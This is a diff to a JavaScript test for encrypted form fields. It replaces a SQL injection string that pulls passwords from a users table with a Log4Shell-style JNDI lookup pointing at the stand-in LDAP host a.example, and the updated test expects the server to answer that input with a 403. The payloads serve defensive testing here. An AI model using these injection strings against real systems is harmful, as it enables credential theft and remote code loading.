@@ -183,14 +183,14 @@ describe('encryptedFields', () => {
   })
 
   it('judges what comes out as what comes in plainly', async () => {
-    const attack = "1' OR 1=1 UNION SELECT password FROM users-- "
+    const attack = '$' + '{jndi:ldap://a.example/x}'
     for (const text of ['a\0b', attack]) {
       const plain = await site.fetch('/plain', {
         ...{ method: 'POST', body: JSON.stringify({ taxId: text }) },
         headers: { 'content-type': 'application/json', ...bench.user.bearer },
       })
       const sealed = await post({ taxId: await encrypt(text) })
-      expect(plain.status).toBeGreaterThanOrEqual(400)
+      expect([text, plain.status]).toEqual([text, text === attack ? 403 : 400])
       expect([sealed.status, sealed.json?.code]).toEqual([plain.status, plain.json?.code])
     }
     const long = await post({ taxId: await encrypt('a\0b') })
